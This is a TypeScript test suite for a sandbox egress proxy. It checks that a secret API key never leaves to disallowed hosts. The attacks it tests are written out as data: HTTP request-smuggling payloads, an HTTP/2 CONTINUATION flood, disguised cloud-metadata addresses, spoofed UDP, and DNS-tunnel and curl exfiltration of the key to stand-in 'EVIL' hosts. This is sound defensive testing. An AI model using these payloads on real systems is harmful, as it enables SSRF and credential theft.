import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { waitUntil } from '@svc/contract/testing';
import { GuestProbe } from './guest-probe.ts';
import { API, EVIL, EVIL_HTTP2, HttpsInternet, PLACEHOLDER, VALUE } from './https-internet.ts';
import { CLASSES, type TestSandbox } from './sandbox-fixture.ts';
import type { TestEngine } from './start-engine.ts';

/** What is written over TLS, as it is, and to whom. */
interface Attack {
  readonly title: string;
  /** Null: the ClientHello has no server name. */
  readonly serverName: string | null;
  /** Each is sent in a write of its own. */
  readonly pieces: readonly string[];
  /** Requests without a placeholder that the host may see. */
  readonly mayArrive?: RegExp;
  /** Two programs could read it in two ways: it is answered with 400, and no host sees anything of it, allowed or not. */
  readonly isAmbiguous?: boolean;
}

const basic = (password: string) => `Basic ${Buffer.from(`me:${password}`).toString('base64')}`;
const get = (host: string, more = '') => `GET /attack HTTP/1.1\r\nHost: ${host}\r\n${more}\r\n`;
const post = (host: string, body: string, more = '') =>
  `POST /attack HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${Buffer.byteLength(body, 'latin1')}\r\n${more}\r\n${body}`;
const chunked = (host: string, rest: string, more = '') =>
  `POST /attack HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n${more}\r\n${rest}`;
const key = `X-Key: ${PLACEHOLDER}\r\n`;
const smuggled = `GET /smuggled HTTP/1.1\r\nHost: ${EVIL}\r\n${key}\r\n`;
const to = (serverName: string | null, title: string, ...pieces: readonly string[]): Attack => ({
  title,
  serverName,
  pieces,
});

const ATTACKS: readonly Attack[] = [
  to(null, 'a greeting without a name', get(API, key)),
  to(null, 'a greeting without a name for another host', get(EVIL, key)),
  to(EVIL, 'the name of the allowed host in the request alone', get(API, key)),
  to(API, 'the name of the allowed host in the greeting alone', get(EVIL, key)),
  to(API, 'two hosts', get(API, `Host: ${EVIL}\r\n${key}`)),
  to(API, 'a target elsewhere', get(API, key).replace('/attack', `https://${EVIL}/attack`)),
  to(EVIL, 'a tunnel', `CONNECT ${API}:443 HTTP/1.1\r\nHost: ${API}:443\r\n${key}\r\n`, get(API, key)),
  { ...to(API, 'two lengths', post(API, smuggled, 'Content-Length: 0\r\n')), isAmbiguous: true },
  to(API, 'length and chunks', chunked(API, `0\r\n\r\n${smuggled}`, 'Content-Length: 5\r\n')),
  to(EVIL, 'chunks and length', chunked(EVIL, `0\r\n\r\n${smuggled}`, 'Content-Length: 4\r\n')),
  to(EVIL, 'an unknown encoding', post(EVIL, smuggled, 'Transfer-Encoding: xchunked\r\n')),
  {
    ...to(API, 'a space before the colon', post(API, smuggled, 'Transfer-Encoding : chunked\r\n')),
    isAmbiguous: true,
  },
  to(EVIL, 'a folded header', get(EVIL, 'X-Key: $MSB_\r\n API_KEY\r\n')),
  to(EVIL, 'a folded header around it', get(EVIL, `X-Key: a\r\n ${PLACEHOLDER}\r\n`)),
  to(EVIL, 'a trailer', chunked(EVIL, `1\r\nx\r\n0\r\nX-Late: ${PLACEHOLDER}\r\n\r\n`)),
  to(EVIL, 'a body cut into chunks', chunked(EVIL, '4\r\n$MSB\r\n8\r\n_API_KEY\r\n0\r\n\r\n')),
  to(EVIL, 'single bytes', ...get(EVIL, key).split('')),
  to(EVIL, 'a body in single bytes', ...post(EVIL, `k=${PLACEHOLDER}`).split('')),
  to(EVIL, 'a path', get(EVIL).replace('/attack', `/attack/${PLACEHOLDER}`)),
  to(EVIL, 'a query, percent-encoded', get(EVIL).replace('/attack', '/attack?k=%24%4dSB%5FAPI_KEY')),
  to(EVIL, 'a body, percent-encoded', post(EVIL, 'k=%24MSB_API_KEY')),
  to(EVIL, 'a body with escapes of JSON', post(EVIL, '{"k":"\\u0024MSB\\u005fAPI_KEY"}')),
  to(EVIL, 'Basic credentials', get(EVIL, `Authorization: ${basic(PLACEHOLDER)}\r\n`)),
  to(EVIL, 'the name of a header', get(EVIL, `${PLACEHOLDER}: x\r\n`)),
  {
    ...to(EVIL, 'requests sent ahead', get(EVIL) + get(EVIL, key) + get(EVIL)),
    mayArrive: /^GET \/attack$/,
  },
  {
    // The request is not searched, so it stays unchanged.
    ...to(
      EVIL,
      'a compressed body',
      post(EVIL, gzipSync(PLACEHOLDER).toString('latin1'), 'Content-Encoding: gzip\r\n'),
    ),
    mayArrive: /^POST \/attack$/,
  },
];

/** Runs inside: says the pieces to whomever an address belongs to, and waits for an answer or the end. */
const CLIENT = `
const [address, servername, pieces] = JSON.parse(Buffer.from(process.argv[1], 'base64').toString());
const socket = require('node:tls').connect({
  host: address, port: 443, rejectUnauthorized: false, ...(servername === null ? {} : { servername }) });
const over = setTimeout(() => socket.destroy(), 20000);
socket.setNoDelay(true).on('error', () => {}).on('close', () => clearTimeout(over));
socket.on('data', (data) => { process.stdout.write(data); if (/^HTTP/.test(data)) socket.end(); });
socket.on('secureConnect', async () => {
  for (const piece of pieces) {
    if (socket.writable) socket.write(piece, 'latin1');
    await new Promise(setImmediate);
  }
});`;

/** Over HTTP/2: in a header, in a body over many frames, and in a trailer. */
const HTTP2_CLIENT = `
const session = require('node:http2').connect('https://${EVIL_HTTP2}');
session.on('error', () => {});
const ask = (headers, frames, trailers) => new Promise((resolve) => {
  const stream = session.request({ ':method': 'POST', ...headers }, { waitForTrailers: true });
  stream.on('wantTrailers', () => stream.sendTrailers(trailers));
  stream.on('error', () => {}).on('close', () => resolve(stream.rstCode)).resume();
  stream.on('response', (answer) => console.log('answered', answer[':status'], answer[':path']));
  for (const frame of frames) stream.write(frame);
  stream.end();
});
(async () => {
  const key = process.env.API_KEY;
  console.log(await ask({ 'x-key': key }, ['x'], {}));
  console.log(await ask({}, [...key], {}));
  console.log(await ask({}, ['x'], { 'x-late': key }));
  console.log('clean', await ask({ ':path': '/clean' }, ['x'], {}));
  session.close();
})();`;

/** An endless head over HTTP/2: CONTINUATION frames without END_HEADERS, each with the placeholder. */
const FLOODING_CLIENT = `
const frame = (type, payload) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt32BE(type === 4 ? 0 : 1, 5);
  return Buffer.concat([head, payload]);
};
const key = process.env.API_KEY;
const header = Buffer.concat([Buffer.from([0, 1, 97, key.length]), Buffer.from(key)]);
const more = frame(9, Buffer.concat(Array(400).fill(header)));
const socket = require('node:tls').connect({ host: '${EVIL_HTTP2}', servername: '${EVIL_HTTP2}', port: 443, ALPNProtocols: ['h2'] });
socket.on('error', () => {}).on('close', () => console.log('closed')).resume();
socket.on('secureConnect', async () => {
  console.log(socket.alpnProtocol);
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'), frame(4, Buffer.alloc(0)), frame(1, Buffer.from([0x82]))]));
  for (let count = 0; count < 2000 && socket.writable; count++)
    await new Promise((done) => { socket.write(more, done); socket.once('close', done); });
  if (socket.writable) { console.log('all of it was taken'); socket.destroy(); }
});`;

/** The metadata address, as it may be written; all of them mean 169.254.169.254. */
const DISGUISES = [
  '169.254.169.254',
  '2852039166',
  '0251.0376.0251.0376',
  '0xa9fea9fe',
  '0xa9.0xfe.43518',
  '169.16689662',
  '[::ffff:169.254.169.254]',
  '[::ffff:a9fe:a9fe]',
  '[::169.254.169.254]',
  '[64:ff9b::a9fe:a9fe]',
];

let world: HttpsInternet;
let probe: GuestProbe;
before(async () => {
  [world, probe] = await Promise.all([HttpsInternet.start(), GuestProbe.compile()]);
});
after(() => world[Symbol.asyncDispose]());

for (const isolation of CLASSES) {
  describe(`on class ${isolation}`, { concurrency: false }, () => {
    let sandbox: TestSandbox;
    before(async () => {
      sandbox = await world.startClient(isolation, world.network());
      await probe.putInto(sandbox);
      // Names lead to addresses only for who has asked for them.
      for (const name of [API, EVIL]) await sandbox.sh(`nslookup ${name}`);
    });
    after(() => sandbox.remove());

    /** What was sent earlier arrived earlier. */
    async function everythingArrived(): Promise<void> {
      const { code, stderr } = await sandbox.sh(`curl -sS https://${API}/control`);
      assert.equal(code, 0, stderr);
      await waitUntil(() => world.requests.some(({ said }) => said.includes('/control')));
    }

    function assertNothingLeft(mayArrive: RegExp = /^$/): void {
      const elsewhere = world.requests.filter(({ name, said }) => name !== API || said.includes(EVIL));
      assert.ok(!JSON.stringify(elsewhere).includes(VALUE), 'the value reached another host');
      assert.doesNotMatch(JSON.stringify(elsewhere), /\$MSB|%24MSB|API_KEY|TVNCX0FQSV9LRV/i);
      const begun = world.begun
        .filter((line) => !line.startsWith(API))
        .map((line) => line.replace(/^\S+ /, ''));
      assert.deepEqual(
        begun.filter((line) => !mayArrive.test(line)),
        [],
        'a host that may not have the secret saw a request',
      );
      assert.ok(!world.begun.some((line) => line.includes('/smuggled')), world.begun.join());
    }

    for (const { title, serverName, pieces, mayArrive, isAmbiguous = false } of ATTACKS) {
      test(`no secret leaves by ${title}`, async () => {
        world.forget();
        const given = JSON.stringify([world.internet.publicAddress, serverName, pieces]);
        const args = ['-e', CLIENT, Buffer.from(given).toString('base64')];
        const { code, stdout, stderr } = await sandbox.run({ cmd: '/usr/bin/node', args });
        assert.equal(code, 0, stderr);
        await everythingArrived();
        assertNothingLeft(mayArrive);
        if (!isAmbiguous) return;
        assert.match(stdout, /^HTTP\/1\.1 400 /);
        assert.deepEqual(
          world.begun.filter((line) => line.includes('/attack')),
          [],
        );
      });
    }

    test('no secret leaves over HTTP/2, and requests without one do', async () => {
      world.forget();
      const { stdout, stderr } = await sandbox.run({ cmd: '/usr/bin/node', args: ['-e', HTTP2_CLIENT] });
      assert.match(stdout, /clean 0/, stderr);
      await everythingArrived();
      assertNothingLeft(/^POST \/clean$/);
    });

    test('no head over HTTP/2 that never ends is taken for a request, or keeps others waiting', async () => {
      world.forget();
      const { stdout } = await sandbox.run({ cmd: '/usr/bin/node', args: ['-e', FLOODING_CLIENT] });
      assert.equal(stdout, 'h2\nclosed\n');
      await everythingArrived();
      assertNothingLeft();
    });

    test('no way to write the metadata address leads there', async () => {
      const script = `require('node:net').connect(8080, '${world.internet.publicAddress}')
        .once('data', (data) => { console.log(String(data)); process.exit(); })`;
      const there = await sandbox.run({ cmd: '/usr/bin/node', args: ['-e', script] });
      assert.match(there.stdout, /^you are/);
      const tries = DISGUISES.map((host) => `curl -sS -m 2 --http0.9 'http://${host}:8080/' &`);
      const { stdout } = await sandbox.sh([...tries, 'wait'].join('\n'));
      assert.doesNotMatch(stdout, /you are/);
    });

    test('packets with a forged source address are dropped', async () => {
      // An unused address: the far end itself would drop packets from its own address.
      const foreign = '198.51.100.77';
      const script = `const dgram = require('node:dgram');
        const send = (from, text) => new Promise((done) => {
          const socket = dgram.createSocket('udp4').on('error', (error) => done(error.code));
          socket.bind(0, from, () => socket.send(text, 9090, '${world.internet.publicAddress}', () => { socket.close(); done('sent'); }));
        });
        (async () => {
          console.log(await send('${foreign}', 'spoofed-${isolation}'));
          console.log(await send('0.0.0.0', 'honest-${isolation}'));
        })();`;
      const added = await sandbox.sh(`ip address add ${foreign}/32 dev eth0`);
      assert.notEqual(added.code, 0);
      const { stdout } = await sandbox.run({ cmd: '/usr/bin/node', args: ['-e', script] });
      assert.match(stdout, /^E\w+\nsent\n$/);
      await waitUntil(() => world.internet.received.some((line) => line.startsWith(`honest-${isolation}`)));
      assert.ok(!world.internet.received.some((line) => line.startsWith('spoofed')));
    });

    test('no secret leaves over a redirect to a host that may not have it', async () => {
      world.forget();
      const { code } = await sandbox.sh(
        `curl -sS -m 20 -L --location-trusted -H "X: $API_KEY" https://${API}/elsewhere`,
      );
      assert.notEqual(code, 0);
      await everythingArrived();
      assertNothingLeft();
    });

    test('no raw socket bypasses the proxy, and no query of a denied name leaves', async () => {
      const tried = await probe.run(sandbox, ['calls']);
      assert.notEqual(tried['socket_raw'], 'ok');
      assert.notEqual(tried['socket_packet'], 'ok');
      const rules = [
        { direction: 'egress', action: 'deny', destination: { domain_suffix: 'tunnel.public.example' } },
        { direction: 'egress', action: 'allow', destination: { domain_suffix: 'public.example' } },
      ] as const;
      const held = await world.startClient(isolation, world.network({ policy: { rules: [...rules] } }));
      try {
        await held.sh(`for part in $(echo "$API_KEY" | tr -d '$' | tr _ ' '); do
          nslookup $part-${isolation}.tunnel.public.example; nslookup -type=txt $part-${isolation}.TUNNEL.public.example; done`);
        await held.sh(`nslookup control-${isolation}.public.example`);
        await waitUntil(() => world.internet.received.some((line) => line.includes(`control-${isolation}`)));
        assert.deepEqual(
          world.internet.received.filter((line) => line.toLowerCase().includes(`${isolation}.tunnel`)),
          [],
        );
      } finally {
        await held.remove();
      }
    });

    test('UDP on an intercepted port does not bypass the proxy', async () => {
      world.forget();
      const script = `const socket = require('node:dgram').createSocket('udp4');
        const send = (text, port) => new Promise((done) => socket.send(text, port, '${world.internet.publicAddress}', done));
        (async () => {
          for (let round = 0; round < 5; round++) await send('quic-${isolation}', 443);
          for (let round = 0; round < 5; round++) await send('other-${isolation}', 9090);
          socket.close();
        })();`;
      await sandbox.run({ cmd: '/usr/bin/node', args: ['-e', script] });
      await waitUntil(() => world.internet.received.some((line) => line.startsWith(`other-${isolation}`)));
      assert.deepEqual(world.datagrams, []);
    });
  });
}

test('without the proxy its connections end, and none bypasses it', async () => {
  const sandbox = await world.startClient('container', world.network());
  try {
    world.forget();
    const script = `const socket = require('node:tls').connect({ host: '${EVIL}', servername: '${EVIL}', port: 443 });
      socket.on('error', () => {}).on('close', () => console.log('closed'));
      socket.on('data', () => console.log('answered')).write('GET /first HTTP/1.1\\r\\nHost: ${EVIL}\\r\\n\\r\\n');`;
    const ended = sandbox.run({ cmd: '/usr/bin/node', args: ['-e', script] });
    await waitUntil(() => world.begun.includes(`${EVIL} GET /first`));
    process.kill(proxyPid(world.engine), 'SIGKILL');
    const { stdout } = await ended;
    // Its answer may have been on its way.
    assert.match(stdout, /^(answered\n)?closed\n$/);
    // The next one is there soon, and reads like the one before.
    const { code } = await sandbox.sh(
      `curl -sS --retry 20 --retry-all-errors --retry-delay 1 https://${API}/again`,
    );
    assert.equal(code, 0);
    const stopped = await sandbox.sh(`curl -sS -m 20 -H "X: $API_KEY" https://${EVIL}/stopped`);
    assert.notEqual(stopped.code, 0);
    assert.deepEqual(
      world.begun.filter((line) => line.startsWith(EVIL)),
      [`${EVIL} GET /first`],
    );
  } finally {
    await sandbox.remove();
  }
});

/** The one proxy of an engine whose sandboxes all have the same scope. */
function proxyPid({ runFolder }: TestEngine): number {
  const folder = join(runFolder, 'network', 'proxies');
  const [name = ''] = readdirSync(folder);
  const { pid } = JSON.parse(readFileSync(join(folder, name), 'utf8')) as { pid: number };
  // SAFETY: a child of our own engine, and never 0, which would be this test itself.
  if (!(pid > 1)) throw new Error('the engine has no proxy');
  return pid;
}
